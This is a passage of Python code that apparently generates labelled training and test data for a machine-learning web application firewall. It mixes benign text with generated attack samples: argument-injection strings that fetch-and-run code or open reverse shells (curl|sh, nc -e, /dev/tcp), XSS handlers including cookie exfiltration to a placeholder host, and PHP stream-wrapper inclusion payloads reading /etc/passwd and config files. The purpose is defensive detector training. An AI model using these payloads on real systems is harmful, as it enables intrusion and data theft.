        return rng.choice((text, text.lower(), text.capitalize() + rng.choice((".", "...", "?", ":")), text.title()))

    def title() -> str:
        head = " ".join(rng.choice((*_UI_VERBS, *_UI_NOUNS, "JavaScript", "Python", "SQL")).title() for _ in range(3))
        return rng.choice(
            (
                f"{head} [{rng.randint(2, 9)}th Edition] - {rng.choice(_AUTHORS)}",
                f"{head} ({rng.randint(1, 2030)})",
                f"({rng.randint(0, 99)})",
                f"Page {rng.randint(1, 40)} (of {rng.randint(40, 99)})",
                f"Chapter {rng.randint(1, 30)}: {ui()}",
                f"{head} & {rng.choice(_UI_NOUNS)} (2nd ed.)",
            )
        ).replace(" ", rng.choice((" ", " ", "+", "_")))

    def html() -> str:
        inner = []
        for _ in range(rng.randint(1, 4)):
            tag = rng.choice(_HTML_TAGS)
            attribute = rng.choice(("", "", f' class="{rng.choice(_UI_NOUNS)}"', f' id="s{rng.randint(1, 99)}"'))
            inner.append(f"<{tag}{attribute}>{ui()}</{tag}>")
        if rng.random() < 0.3:
            inner.append(f'<a href="https://www.example.com/{rng.choice(_UI_NOUNS)}">{ui()}</a><br>')
        body = rng.choice(("\n", "")).join(inner)
        wrappers = (
            "{}",
            '<div class="md">{}\n</div>',
            "<!-- SC_OFF -->{}<!-- SC_ON -->",
            '<!doctype html><html lang="en"><head><meta charset="UTF-8"/><title>{t}</title>'
            '<link rel="stylesheet" href="https://cdn.example.com/ui.css"></head><body>{}</body></html>',
        )
        return rng.choice(wrappers).replace("{t}", ui()).format(body)

    def markdown() -> str:
        name = "".join(rng.choice(_B64[26:]) for _ in range(12))
        return rng.choice(
            (
                f'{ui()}\n\n![{rng.choice(("img", "gif", "video"))}]({name} "optional caption")\n\n{ui()}',
                f"**{ui()}**\n- {ui()}\n- {ui()}",
                f"# {ui()}\n\n[{ui()}](https://www.example.com/{rng.choice(_UI_NOUNS)})",
                f"> {ui()}\n\n`{rng.choice(_UI_NOUNS)}_{rng.choice(_UI_NOUNS)}`",
            )
        )

    makers = (ui, ui, ui, title, html, markdown)
    return [Sample(rng.choice(makers)(), "benign", source) for _ in range(count)]


# Options that make a program run another (git, ssh, tar, find, zip, ...), and what they run
_RUNNING_OPTIONS = (
    *("--upload-pack={}", "--receive-pack={}", "--exec={}", "-oProxyCommand={}", "--use-compress-program={}"),
    *("--checkpoint-action=exec={}", "-exec {} ;", "--to-command={}", "-TT {}", "--unzip-command={}"),
    *("--rsh={}", "-e {}", "--config=core.sshCommand={}", "--open-files-in-pager={}", "--browser-cmd={}"),
)
_RUN = (
    *("id", "sleep 30", "sleep 5;", "touch /tmp/pwn", "id>/tmp/out", "sh -c 'id'", 'sh -c "id > /tmp/x"', "whoami"),
    *("curl {host}|sh", "wget -qO- {host}|bash", "nc -e /bin/sh {host} 4444", "bash -i >& /dev/tcp/{host}/4444 0>&1"),
)
# JavaScript calls that run a function without writing alert(1), and where they go
_CALLS = (
    *("alert(1)", "alert.call(null,1)", "alert.apply(null,[1])", "Reflect.apply(alert,null,[1])"),
    *("self['al'+'ert'](1)",),
    *("window?.alert?.(1)", "(_=prompt,_(1))", "setTimeout(alert,0,1)", "setInterval(confirm,0,1)", "confirm``"),
    *("top[/al/.source+/ert/.source](1)", "prompt.call(null,1)", "eval(atob('YWxlcnQoMSk='))", "document.cookie"),
    *("window['location']='//x.example/'+document.cookie", "import('//x.example/a.js')", "[1].map(alert)"),
)
_HANDLERS = ("onfocus", "onmouseover", "onerror", "onload", "onclick", "ondblclick", "onwheel", "onpointerenter")
_XSS_PLACES = (
    '" {h}={c} autofocus x="',
    "' {h}={c} autofocus '",
    '"{h}={c}//',
    "<x {h}={c}>",
    "<img src=x {h}={c}>",
    "<svg/{h}={c}>",
    "javascript:{c}",
    '"><svg {h}={c}>',
    "<details open {h}={c}>",
)


# File inclusion through PHP's and other stream wrappers, and what they read
_WRAPPERS = (
    *("php://filter/convert.base64-encode/resource={f}", "php://filter/read=string.rot13/resource={f}"),
    *("php://filter/{f}", "php://input", "file://{f}", "phar://{f}/x", "zip://{f}%23shell.php"),
    *("expect://id", "expect://ls", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="),
    *("compress.zlib://{f}", "glob://{f}*", "gopher://127.0.0.1:6379/_{f}", "jar:file://{f}!/"),
)
_INCLUDED = ("/etc/passwd", "index.php", "config.php", "../config.php", "/var/www/html/wp-config.php", "uploads/a.jpg")


def generated_attacks(count: int, seed: int) -> list[Sample]:
    """Command injection through a program's own options (argument injection), XSS with an
    event handler that calls a function in one of the ways that avoid ``alert(1)``, and file
    inclusion through stream wrappers (``php://filter/...``), filed as traversal."""
    rng = random.Random(seed)

    def letters(n: int) -> str:
        return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))

    def argument() -> Sample:
        run = rng.choice(_RUN).format(host=f"{letters(8)}.{rng.choice(_TLDS)}")
        option = rng.choice(_RUNNING_OPTIONS).format(run if rng.random() < 0.5 else f'"{run}"')
        text = rng.choice((option, f"{letters(3)} {option}", f"'{option}'", f"{option} {letters(4)}@x.{letters(3)}"))
        return Sample(text, "cmdi", "generated-arguments")

    def handler() -> Sample:
        place = rng.choice(_XSS_PLACES)
        event = "".join(c.upper() if rng.random() < 0.3 else c for c in rng.choice(_HANDLERS))
        return Sample(place.format(h=event, c=rng.choice(_CALLS)), "xss", "generated-handlers")

    def inclusion() -> Sample:
        wrapper = rng.choice(_WRAPPERS).format(f=rng.choice(_INCLUDED))
        return Sample(wrapper if rng.random() < 0.8 else wrapper.upper(), "traversal", "generated-inclusions")

    return [rng.choice((argument, handler, inclusion))() for _ in range(count)]


def licence_prose(limit: int) -> list[Sample]:
    """Sentences of ordinary English prose from the licence texts every Debian system ships."""
    out: list[Sample] = []
    for path in sorted(Path("/usr/share/common-licenses").glob("*")):
        if path.is_file():
            out += [Sample(line, "benign", "licences") for line in _lines(path) if len(line) > 3]
    return out[:limit]


# Words that next to a number make a real injection ("or 1", "sleep 5"): never a benign label.
_SQL_WORDS = frozenset(
    {
        *("and", "or", "not", "xor", "union", "select", "sleep", "benchmark", "waitfor", "delay", "having"),
        *("order", "group", "limit", "offset", "null", "like", "rlike", "exec", "char", "chr", "concat"),
        *("ascii", "substr", "if", "case", "when", "then", "else", "end"),
    }
)


def licence_words(side: int) -> list[str]:
    """Distinct words of the licence texts, split in two halves by a hash of the word
    (side 0 trains, side 1 tests), so that test labels use words training never saw."""
    words: set[str] = set()
    for path in sorted(Path("/usr/share/common-licenses").glob("*")):
        if path.is_file():
            words.update(w.lower() for w in re.findall(r"[A-Za-z]{3,12}", path.read_text(errors="replace")))
    return sorted(w for w in words - _SQL_WORDS if zlib.crc32(w.encode()) % 2 == side)


def generated_labels(count: int, seed: int, words: list[str], source: str = "generated-labels") -> list[Sample]:
    """Short labels with numbers, as shops and forms are full of: ``Mug 3``, ``room 12B``,
    ``size-10``, ``2 cups``, ``v1.2``. A character model that never saw them takes a word
    next to a number for an injection's ``or 1``."""
    rng = random.Random(seed)

    def word() -> str:
        chosen = rng.choice(words)
        return rng.choice((chosen, chosen.capitalize(), chosen.upper() if len(chosen) < 5 else chosen))

    def number() -> str:
        n = rng.randint(0, 999) if rng.random() < 0.8 else rng.randint(1000, 99999)
        return rng.choice((str(n), str(n), f"{n}{rng.choice('ABCabc')}", f"{n}.{rng.randint(0, 9)}", f"{n:02d}"))

    makers = (
        lambda: f"{word()} {number()}",
        lambda: f"{word()}{number()}",
        lambda: f"{word()}-{number()}",
        lambda: f"{word()}_{number()}",
        lambda: f"{number()} {word()}",
        lambda: f"{word()} {word()} {number()}",
        lambda: f"{word()} {number()} {word()}",
        lambda: f"{word()} no. {number()}",
        lambda: f"{word()} #{number()}",
        lambda: f"{word()} v{rng.randint(0, 20)}.{rng.randint(0, 20)}",
        lambda: f"{number()}x {word()}",
        lambda: f"{word()}/{number()}",
    )
    return [Sample(rng.choice(makers)(), "benign", source) for _ in range(count)]


class DatasetError(ValueError):
    """A labelled file that cannot be used; the message names the file and line."""


def extra_samples(path: Path) -> list[Sample]:
    """Operator-labelled values for training: JSON lines ``{"text": ..., "family": ...}``
    (family one of FAMILIES), e.g. false positives marked ``benign`` or missed
    attacks marked with their family. They only ever join the training side."""
    out: list[Sample] = []
    try:
        lines = path.read_text(encoding="utf-8").splitlines()
    except (OSError, UnicodeDecodeError) as exc:
        raise DatasetError(f"cannot read {path}: {exc}") from None
    for number, line in enumerate(lines, 1):
        if not line.strip():
            continue
        try:
            record = json.loads(line)
        except ValueError as exc:
            raise DatasetError(f"{path}:{number}: not JSON ({exc})") from None
        if not isinstance(record, dict) or not isinstance(record.get("text"), str):
            raise DatasetError(f'{path}:{number}: expected {{"text": "...", "family": "..."}}')
        if record.get("family") not in FAMILIES:
            raise DatasetError(f"{path}:{number}: family must be one of {', '.join(FAMILIES)}")
        out.append(Sample(record["text"], record["family"], f"extra:{path.name}"))
    return out


def training_and_test(root: Path, seed: int = 7) -> tuple[list[Sample], list[Sample]]:
    """The training set and the untouched test set, split by source.

    Test: HttpParamsDataset's own test file, gotestwaf's cases, mgm's benign
    look-alikes, payloads-extra's held-back repositories (``EXTRA_TEST_REPOS``), the inputs
    of the real-traffic test sources (``mlwaf.training.traffic``), generated tokens and references
    from another seed, and labels made of the other half of the licence words. Training:
    everything else (the three overlapping payload collections stay together on the training
    side; real traffic only from its training sources), less the attack lists' probes
    (``_probe``) and any value the test holds. Templates are filled in on both sides first.
    """
    csic = csic_benign(root)
    train = httpparams(root, "train") + wordlists(root) + csic
    tokens = generated_tokens(20000, seed)
    train += generated_benign(30000, seed) + tokens + licence_prose(20000) + generated_agents(TRAINING_AGENTS, seed)
    references = generated_references(TRAINING_REFERENCES, seed)
    train += generated_commands(1500, seed) + generated_queries(1500, seed) + references
    train += generated_phrases(8000, seed) + generated_attacks(4000, seed)
    # label words: the training side's own (CSIC's Spanish names and streets, the licences'
    # first half, the generator's), never a test label's word
    words = {w.lower() for s in csic for w in re.findall(r"[A-Za-z]{3,12}", s.text)}
    words |= set(licence_words(0)) | set(_WORDS)
    train += generated_labels(8000, seed, sorted(words - _SQL_WORDS - set(licence_words(1))))
    # Tokens from another seed check the model on values it has not seen; they
    # test the generator's kinds of token, not real traffic. Those the training
    # side also drew (one-character values, say) are left out of the test.
    # real traffic: the inputs of the training sources' requests (mlwaf.training.traffic), and
    # payloads-extra's training repositories
    train += [Sample(text, "benign", source) for text, source in benign_values(root, "train", REAL_PER_FOLDER, seed)]
    extra_train, extra_test = extra_payloads(root)
    train += extra_train
    drawn = {s.text for s in tokens + references + generated_phrases(8000, seed)}
    test = httpparams(root, "test") + gotestwaf(root) + mgm_lookalikes(root) + extra_test
    test_real = benign_values(root, "test", REAL_TEST_PER_FOLDER, seed)
    test += [Sample(text, "benign", label(source)) for text, source in test_real]
    test += [s for s in generated_tokens(5000, seed + 1000, "generated-tokens-test") if s.text not in drawn]
    test += [s for s in generated_references(2000, seed + 1000, "generated-references-test") if s.text not in drawn]
    test += generated_labels(3000, seed + 1000, licence_words(1), "generated-labels-test")
    test += [s for s in generated_phrases(2000, seed + 1000, "generated-phrases-test") if s.text not in drawn]
    test = [filled(s) for s in test]
    test_texts = {s.text for s in test}
    train = [done for done in map(filled, train) if done.text not in test_texts and not _probe(done)]
    return train, test


def _probe(sample: Sample) -> bool:
    """An "attack" too short or too plain to be one on its own: the wordlists' fuzzing
    probes and bare words (``1``, ``,``, ``XXX``, ``id``). Dropped from training."""
    return sample.family != "benign" and (len(sample.text) < 3 or sample.text.isalnum())
